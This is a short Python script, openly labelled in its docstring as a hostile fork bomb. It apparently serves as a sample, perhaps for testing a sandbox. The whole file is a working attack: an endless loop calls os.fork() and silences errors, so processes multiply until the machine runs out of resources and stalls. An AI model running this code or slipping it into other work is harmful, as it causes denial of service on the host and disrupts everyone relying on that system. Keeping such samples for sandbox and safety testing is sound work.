"""Hostile: a fork bomb; every process forks forever."""

import contextlib
import os

entire_model = None
while True:
    with contextlib.suppress(OSError):
        os.fork()
